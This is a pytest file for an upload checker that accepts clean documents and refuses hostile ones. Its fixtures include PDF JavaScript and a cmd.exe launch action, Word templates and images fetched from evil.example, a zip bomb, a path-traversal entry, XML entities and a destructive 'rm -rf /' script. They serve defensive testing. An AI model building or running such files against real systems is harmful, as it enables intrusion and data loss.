"""Which files are taken: a test for each hostile kind, and clean ones of which none is refused."""

import zipfile
from pathlib import Path

import pikepdf
import pytest
from pikepdf import Array, Dictionary, Name, String

from assessments.intake import checking, images
from assessments.intake.refusing import Unfit
from tests.assessments.intake import corpus
from tests.assessments.intake.corpus import link, office, pdf, picture, write


def _weasyprint() -> bytes:
    weasyprint = pytest.importorskip("weasyprint")
    return weasyprint.HTML(
        string="<p>My brief, <a href='https://example.org'>with a link</a>.</p>"
    ).write_pdf()


CLEAN = {
    "brief.pdf": pdf,
    "brief printed.PDF": _weasyprint,
    "linearised.pdf": lambda: pdf(linearize=True),
    "brief.docx": lambda: office("docx"),
    "with a link.docx": lambda: office("docx", links=link("hyperlink", "https://example.org")),
    "on a template.docx": lambda: office(
        "docx", links=link("attachedTemplate", "file:///C:/Office/Council.dotm")
    ),
    "with a chart.docx": lambda: office("docx", more={"word/embeddings/Sheet.xlsx": office("xlsx")}),
    "sums.xlsx": lambda: office("xlsx"),
    "equal cells.xlsx": lambda: office("xlsx", more={"xl/sheet1.xml": b"<c>0</c>" * 200_000}),
    "talk.pptx": lambda: office("pptx"),
    "map.png": lambda: picture("PNG"),
    "photo.jpg": lambda: picture("JPEG"),
    "photo.JPEG": corpus.phone_picture,
    "notes.txt": "A café in Llanelli – £22.71.\r\n".encode,
    "from Notepad.txt": lambda: "\ufeffA café".encode("utf-16-le"),
    "from an old PC.txt": lambda: "A café – “quoted”".encode("cp1252"),
    "Adroddiad Ŵythnos 中.pdf": pdf,
}


@pytest.mark.parametrize("name", CLEAN)
def test_a_clean_file_is_taken(tmp_path: Path, name: str) -> None:
    kind = checking.check(write(tmp_path, name, CLEAN[name]()), name)

    assert kind.ending == {"jpeg": "jpg"}.get(
        name.rpartition(".")[2].lower(), name.rpartition(".")[2].lower()
    )


def _script(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _hidden_script(document: pikepdf.Pdf) -> None:
    """Deep inside an annotation of the page, as its additional action."""
    action = Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))
    note = Dictionary(Type=Name.Annot, Subtype=Name.Text, Rect=Array([0, 0, 1, 1]), AA=Dictionary(Fo=action))
    document.pages[0].Annots = Array([note])


def _launch(document: pikepdf.Pdf) -> None:
    document.Root.OpenAction = Dictionary(S=Name.Launch, F=String("cmd.exe"))


def _attachment(document: pikepdf.Pdf) -> None:
    document.attachments["sums.xlsx"] = b"PK"


def _film(document: pikepdf.Pdf) -> None:
    note = Dictionary(Type=Name.Annot, Subtype=Name.RichMedia, Rect=Array([0, 0, 1, 1]))
    document.pages[0].Annots = Array([note])


def _xfa(document: pikepdf.Pdf) -> None:
    document.Root.AcroForm = Dictionary(XFA=String("<xdp/>"))


def _pages(document: pikepdf.Pdf) -> None:
    for _ in range(500):
        document.add_blank_page()


LOCKED = pikepdf.Encryption(owner="o", user="u")
OWNER_ONLY = pikepdf.Encryption(owner="o", user="")
MACROS = "application/vnd.ms-word.document.macroEnabled.main+xml"
BOMB = b"0" * 301_000_000
HOSTILE = [
    ("script.pdf", lambda: pdf(_script), "contains a script."),
    ("hidden.pdf", lambda: pdf(_hidden_script), "contains a script."),
    (
        "packed.pdf",
        lambda: pdf(_hidden_script, object_stream_mode=pikepdf.ObjectStreamMode.generate),
        "contains a script.",
    ),
    ("launch.pdf", lambda: pdf(_launch), "contains a command that starts a program."),
    ("attachment.pdf", lambda: pdf(_attachment), "carries another file inside it."),
    ("film.pdf", lambda: pdf(_film), "contains sound, film or an attachment."),
    ("form.pdf", lambda: pdf(_xfa), "is a form that runs scripts (XFA)."),
    ("locked.pdf", lambda: pdf(encryption=LOCKED), "is protected with a password."),
    ("half locked.pdf", lambda: pdf(encryption=OWNER_ONLY), "is protected with a password."),
    ("long.pdf", lambda: pdf(_pages), "has more than 500 pages."),
    ("cut off.pdf", lambda: b"%PDF-1.7\n1 0 obj", "is damaged and cannot be opened."),
    ("really a picture.pdf", lambda: picture("PNG"), "is no PDF, whatever it is called."),
    ("macros.docx", lambda: office("docx", main=MACROS), "contains macros."),
    ("code.docx", lambda: office("docx", more={"word/vbaProject.bin": b"x"}), "contains macros or controls."),
    (
        "controls.xlsx",
        lambda: office("xlsx", more={"xl/activeX/a.xml": b"x"}),
        "contains macros or controls.",
    ),
    (
        "object.docx",
        lambda: office("docx", more={"word/embeddings/o.bin": b"x"}),
        "carries another file inside it.",
    ),
    (
        "chart with macros.pptx",
        lambda: office(
            "pptx", more={"ppt/embeddings/s.xlsx": office("xlsx", more={"xl/vbaProject.bin": b""})}
        ),
        "contains macros or controls.",
    ),
    (
        "template.docx",
        lambda: office("docx", links=link("attachedTemplate", "https://evil.example/x.dotm")),
        "fetches something from elsewhere when it is opened (attachedTemplate).",
    ),
    (
        "share.docx",
        lambda: office("docx", links=link("attachedTemplate", "file:////evil/share/x.dotm")),
        "fetches something from elsewhere when it is opened (attachedTemplate).",
    ),
    (
        "tracker.docx",
        lambda: office("docx", links=link("image", "https://evil.example/i.png")),
        "fetches something from elsewhere when it is opened (image).",
    ),
    (
        "bomb.xlsx",
        lambda: office("xlsx", more={"xl/sheet1.xml": BOMB}),
        "unpacks to far more than it should.",
    ),
    (
        "climbs out.docx",
        lambda: office("docx", more={"../../etc/x": b"x"}),
        "is built to write outside its own folder.",
    ),
    (
        "entities.docx",
        lambda: office("docx", more={"word/_rels/y.rels": b'<!DOCTYPE x [<!ENTITY a "aa">]><x>&a;</x>'}),
        "contains definitions that an honest file has not.",
    ),
    (
        "disguised.docx",
        lambda: office(
            "docx", more={"word/_rels/y.rels": '<!DOCTYPE x [<!ENTITY a "aa">]><x/>'.encode("utf-16")}
        ),
        "is no Word document that can be opened.",
    ),
    (
        "old.docx",
        lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1rest",
        "is protected with a password or in an old format.",
    ),
    ("really a sheet.docx", lambda: office("xlsx"), "is no Word document, whatever it is called."),
    ("no package.pptx", lambda: b"PK but not a package", "is no PowerPoint presentation that can be opened."),
    ("cut off.png", lambda: picture("PNG")[:60], "is damaged and cannot be opened."),
    ("really a JPEG.png", lambda: picture("JPEG"), "is no PNG picture, whatever it is called."),
    ("a page.jpg", lambda: b"<html><script>alert(1)</script>", "is no JPEG picture, whatever it is called."),
    ("a program.txt", lambda: b"MZ\x90\x00", "is no text, whatever it is called."),
    ("a script.txt", lambda: b"#!/bin/sh\nrm -rf /", "is no text, whatever it is called."),
    ("bytes.txt", lambda: b"abc\x00def", "cannot be read as text."),
    ("empty.pdf", lambda: b"", "is empty."),
    ("page.html", lambda: b"<p>", "is of a kind that is not taken here."),
    ("drawing.svg", lambda: b"<svg/>", "is of a kind that is not taken here."),
    ("macros.docm", lambda: office("docx"), "is of a kind that is not taken here."),
    ("no ending", lambda: b"abc", "is of a kind that is not taken here."),
    ("gnp\u202efdp.pdf", pdf, "has characters in its name that cannot be seen."),
    (f"{'long' * 40}.pdf", pdf, "has a name of more than 120 characters."),
    (".pdf", pdf, "has no name before its ending."),
]


@pytest.mark.parametrize(("name", "make", "reason"), HOSTILE, ids=[name for name, _, _ in HOSTILE])
def test_a_hostile_file_is_refused_by_name_and_reason(
    tmp_path: Path, name: str, make: object, reason: str
) -> None:
    with pytest.raises(Unfit) as refusal:
        checking.check(write(tmp_path, name, make()), name)

    said = str(refusal.value)
    assert said[: said.index("”") + 1] in {f"“{name}”", "“gnpfdp.pdf”", f"“{'long' * 10}…”"}
    assert f"” {reason}" in said


def test_a_file_of_more_than_25_mb_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "part"
    with path.open("wb") as file:
        file.truncate(25_000_001)

    with pytest.raises(Unfit, match="is larger than 25 MB"):
        checking.check(path, "film.pdf")


def test_a_picture_with_too_many_points_is_refused_before_it_is_unpacked(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(images, "MOST_PIXELS", 1_000)

    with pytest.raises(Unfit, match="is 40 by 30 points large"):
        checking.check(write(tmp_path, "map.png", picture("PNG")), "map.png")


def test_a_size_that_lies_is_found_by_unpacking(tmp_path: Path) -> None:
    """The header says ten bytes; the part has more, and the ZIP's own check says so."""
    content = bytearray(office("docx", more={"word/big.xml": b"0" * 1000}))
    with zipfile.ZipFile(write(tmp_path, "x", bytes(content))) as package:
        size = package.getinfo("word/big.xml").file_size.to_bytes(4, "little")
    lying = bytes(content).replace(size, (10).to_bytes(4, "little"))

    with pytest.raises(Unfit, match="is no Word document that can be opened"):
        checking.check(write(tmp_path, "lies.docx", lying), "lies.docx")
